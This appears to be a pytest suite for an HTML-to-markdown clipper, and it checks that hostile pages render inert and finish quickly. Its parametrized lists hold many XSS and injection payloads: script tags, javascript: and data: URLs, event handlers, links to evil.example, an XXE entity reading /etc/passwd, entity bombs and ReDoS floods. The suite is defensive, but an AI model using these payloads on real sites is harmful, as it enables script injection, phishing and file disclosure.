"""Nothing of a hostile page is alive once the generator has rendered its clipping."""

from __future__ import annotations

import re
import time

import pytest

from tests.extract.rendering import clipped, rendered, words_shown

_BEFORE = (
    "<p>The council counted the votes for nine hours on Tuesday, and then counted them once more "
    "before it went home for the night, at the request of both sides.</p>"
)
_AFTER = (
    "<p>Nobody disputed the second count. The clerk wrote both numbers into the book, one above "
    "the other, and signed between them in green ink, as the law demands.</p>"
)
_PAGE = "<html><body><article><h1>Count</h1>{0}{2}{1}</article></body></html>"
_WORDS = "Nobody disputed the second count."
_LONGEST_SECONDS = 5.0


def _page(hostile: str) -> str:
    return _PAGE.format(_BEFORE, _AFTER, hostile)


def _in_text(hostile: str) -> str:
    return _page(
        f"<p>The third count is planned for May, it was said on Tuesday, {hostile} and until then "
        f"the hall stays locked, and the book lies in the safe.</p>"
    )


_TAGS = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<p onclick=alert(1) onmouseover='alert(2)' style='background:url(javascript:x)'>A line that "
    "is long enough to be kept as a part of the text.</p>",
    "<img src=x onerror=alert(1)>",
    "<img src='javascript:alert(1)' alt='x'>",
    '<img src="/a.jpg" alt="&quot;><script>alert(1)</script>">',
    '<figure><img src="/a.jpg" alt="](javascript:x)"><figcaption>" onload="x" {{ x }} {% note %} '
    "![x](javascript:x)</figcaption></figure>",
    '<figure><img src="/a.jpg"><figcaption>It. <span class="credit">"} {onclick="x"} {% note %}'
    "</span></figcaption></figure>",
    "<svg onload=alert(1)><script>alert(1)</script><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<style>body{background:url(//evil.example)}</style>",
    "<iframe src='//evil.example'></iframe>",
    "<iframe src='javascript:alert(1)' title='x'></iframe>",
    '<iframe src="https://www.youtube.com/embed/abcdefghijk" title="]( javascript:x) {% x %}">'
    "</iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='evil.swf'><embed src='evil.swf'></object>",
    "<form action='//evil.example'><input name=p type=password><button formaction='javascript:x'>"
    "Go</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href='javascript:alert(1)//'>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<video src='javascript:alert(1)'></video><audio src='data:text/html,x'></audio>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!-- <script>alert(1)</script> --><!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<table><tr><th>a|b</th><th onclick=x>{% note %}</th></tr><tr><td>|---|</td><td>`</td></tr>"
    "</table>",
    "<pre>```\n{% note %}\n<script>alert(1)</script>\r\x0b\u2028{% note %}\n~~~\n\n    x</pre>",
    "<blockquote><pre>x\r```\r{% note %}\x0c{% endnote %}\x85{% note %}</pre></blockquote>",
    "<ul><li>{% note %}</li><li># {.x}</li><li>---</li><li>[x]: javascript:alert(1)</li></ul>",
    "<h2>{% note %} {#evil .x onclick=alert(1)}</h2><p>Words under the heading, long enough to be "
    "a paragraph of the text.</p>",
    "<h2>Plain {onclick=alert(1)}</h2><p>Words under the heading, long enough to be a paragraph "
    "of the text.</p>",
    "<dl><dt>{% note %}</dt><dd>{.x}<p>{% endnote %}</p></dd></dl>",
    "<p>{onclick=alert(1)}</p><p>A paragraph that those attributes would be for.</p>",
    "<p>[evil]: javascript:alert(1)</p><p>[^1]: A note that nobody wrote in this piece.</p>",
    "<sup data-note='1'></sup><sup data-note=']: x'>1</sup>",
    "<p>---</p><p>title: x</p><p>...</p><p>+++</p>",
    "<xmp><script>alert(1)</script></xmp><plaintext><script>alert(1)</script>",
]
_LINKS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java&#x09;script:alert(1)",
    "java&#10;script:alert(1)",
    "java\tscript:alert(1)",
    "&#x6a;&#97;vascript&colon;alert(1)",
    "\x01javascript:alert(1)",
    "javascript&#58;alert(1)",
    "java\u200bscript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "DATA:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "blob:https://x/1",
    "//user:password@evil.example/",
    "https://bank.example@evil.example/",
    "https://bank.example\\@evil.example/",
    "https://evil.example/)[x](javascript:alert(1)",
    'https://evil.example/ "onclick=alert(1) x',
    "https://evil.example/{% note %}",
    "https://evil.example/x){onclick=alert(1)}",
    "https://evil.example/&quot;&gt;&lt;script&gt;",
    "https://evil.example/\u202egpj.exe",
    "https://[::1",
    "http://",
]
_TEXTS = [
    "{% note %}",
    '{%- note title="x" -%}',
    "{% endnote %}",
    "\\{% note %}",
    "\\\\{% note %}",
    "{<b></b>% note %}",
    "{\u200b% note %}",
    "{\u00ad% note %}",
    "{{ config.secret }} {# x #}",
    "{.class #id onclick=alert(1)}",
    "<b>x</b>{onclick=alert(1)}",
    "<code>x</code>{onclick=alert(1)}",
    "<code>`{% note %}</code> `` <code>{% note %}``</code>",
    "<code>` </code>{% note %}<code> `</code>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&lt;!-- x --&gt; &lt;?php x ?&gt; &lt;![CDATA[ x ]]&gt;",
    "&lt;https://evil.example&gt; &lt;javascript:alert(1)&gt;",
    "[x](javascript:alert(1))",
    "![x](javascript:alert(1))",
    "[x][evil] [evil]: javascript:alert(1)",
    "[^1] ^[a note]",
    "<a href='https://a.example/'>x](javascript:alert(1)) [y</a>",
    "<a href='https://a.example/'>![x](javascript:alert(1))</a>",
    "<br>---<br>",
    "<br>{% note %}<br>",
    "<br>[evil]: javascript:alert(1)<br>",
    "<br>&gt; quote<br># heading<br>* item<br>1. item<br>```<br>~~~<br>| a | b |<br>|---|---|<br>",
    "<br>&nbsp;&nbsp;&nbsp;&nbsp;indented<br>: a definition",
    "a\u202eb\u2066c\u2069d\u200fe",
    "\x00 &#0; \x08 &#8; \x1b &#x1b; &#xFFFE; &#xD800; &#x110000;",
    "&amp;lt;script&amp;gt; &amp;#123;% note %}",
]


def _is_quick(began: float) -> bool:
    return time.process_time() - began < _LONGEST_SECONDS


@pytest.mark.parametrize("hostile", _TAGS)
def test_no_tag_is_alive(hostile: str) -> None:
    shown = rendered(clipped(_page(hostile)))
    assert _WORDS in shown
    assert "alert(1)</script>" not in shown


@pytest.mark.parametrize("target", _LINKS)
def test_no_link_leads_elsewhere_than_to_the_web(target: str) -> None:
    quoted = target.replace('"', "&quot;")
    markdown = clipped(_in_text(f'<a href="{quoted}" onclick="x">as it is</a>'))
    shown = rendered(markdown)
    assert "as it is" in shown
    assert not re.search(r'href="[^"]*(?:@|\u202e)', shown)


@pytest.mark.parametrize("hostile", _TEXTS)
def test_no_text_means_more_than_its_words(hostile: str) -> None:
    shown = rendered(clipped(_in_text(hostile)))
    assert "and until then" in shown
    assert not re.search("[\u202a-\u202e\u2066-\u2069\u200e\u200f\x00-\x08\x1b]", shown)
    for sign in ("<ul", "<ol", "<blockquote", "<h2", "<table", "<pre", "<dl", "<hr", "footnote"):
        assert sign not in shown


@pytest.mark.parametrize("hostile", _TEXTS)
@pytest.mark.parametrize(
    "holder",
    ["<h2>{}</h2>", "<ul><li>{}</li><li>b</li></ul>", "<blockquote><p>{}</p></blockquote>",
     "<table><tr><th>{}</th><th>b</th></tr><tr><td>{}</td><td>d</td></tr></table>",
     "<dl><dt>{}</dt><dd>{}</dd></dl>", "<pre>{}</pre>",
     '<figure><img src="/a.jpg" alt="x"><figcaption>{}</figcaption></figure>',
     "<p><b>{}</b><i>{}</i></p>", "<p>{}</p>"],
)  # fmt: skip
def test_nor_anywhere_else(holder: str, hostile: str) -> None:
    shown = rendered(
        clipped(_page(holder.replace("{}", hostile) + _AFTER.replace("second", "third")))
    )
    assert _WORDS in shown


def test_no_front_matter_begins_in_a_text() -> None:
    page = "<article><p>---</p><p>title: evil</p><p>---</p>" + _BEFORE + _AFTER + "</article>"
    assert not re.search(r"^(?:---|\.\.\.|\+\+\+)", clipped(page), re.MULTILINE)


def test_words_are_those_of_the_page() -> None:
    words = r"a*b*c _d_ e_f [g] (h) `i` ~~j~~ <k> &amp; l; 1. m # n > o | p \ q {r} !s ^t $u$ :v:"
    escaped = words.replace("&", "&amp;").replace("<", "&lt;")
    assert words in words_shown(clipped(_in_text(escaped)))


@pytest.mark.parametrize("tag", ["div", "blockquote", "ul><li", "b", "span", "table><tr><td", "a"])
def test_deep_nesting_is_quick(tag: str) -> None:
    began = time.process_time()
    rendered(clipped(_page(f"<{tag}>" * 10_000 + "deep" + _BEFORE)))
    rendered(clipped(_page(f"<{tag}>" * 200 + "deep" + _BEFORE)))
    assert _is_quick(began)


@pytest.mark.parametrize(
    "flood",
    [
        "x" * 5_000_000,
        "<p>" + "x" * 5_000_000 + "</p>",
        "<p>" + "*" * 200_000 + "</p>",
        "<p>" + "[" * 200_000 + "</p>",
        "<p>" + "_a " * 100_000 + "</p>",
        "<p>" + "<b>a</b>" * 20_000 + "</p>",
        "<p>" + "a<br>" * 20_000 + "</p>",
        "<p>" + "a <a href='/x'>b</a> " * 10_000 + "</p>",
        "<ul>" + "<li>a</li>" * 10_000 + "</ul>",
        "<p>a</p>" * 10_000,
        "<table>" + "<tr><td>a<td>b" * 5_000 + "</table>",
        "<td colspan=99999999>" * 100,
        "<img src='/a.jpg' srcset='" + "/a.jpg 1w, " * 100_000 + "'>",
        "<p class='" + "related-" * 200_000 + "'>a</p>",
        "<pre>" + "`" * 500_000 + "</pre>",
        "<p>" + "( " * 100_000 + "</p>",
        "<p>" + " " * 1_000_000 + "</p>",
        "<p>" + "by " * 100 + "</p>",
        "<h2>" + "mehr zum thema " * 10_000 + "</h2>",
        "<a id=x href=#x>1</a>" * 5_000,
        "&lol;" * 100_000,
    ],
    ids=lambda flood: f"{flood[:24]}…{len(flood)}",
)
def test_floods_are_quick(flood: str) -> None:
    began = time.process_time()
    clipped(_page(flood))
    assert _is_quick(began)


def test_entity_bomb_stays_small() -> None:
    entities = '<!ENTITY a "aaaaaaaaaa">' + "".join(
        f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9)
    )
    outside = '<!ENTITY xxe SYSTEM "file:///etc/passwd">'
    page = f"<!DOCTYPE html [{entities}{outside}]>" + _in_text("&j; &xxe;")
    markdown = clipped(page)
    assert len(markdown) < 3_000
    assert "root:" not in markdown
    rendered(markdown)


@pytest.mark.parametrize("page", ["<html></html>", "<p></p>", "<html><body>x</body></html>"])
def test_a_page_without_an_article_is_empty_or_small(page: str) -> None:
    assert len(clipped(page)) < 10
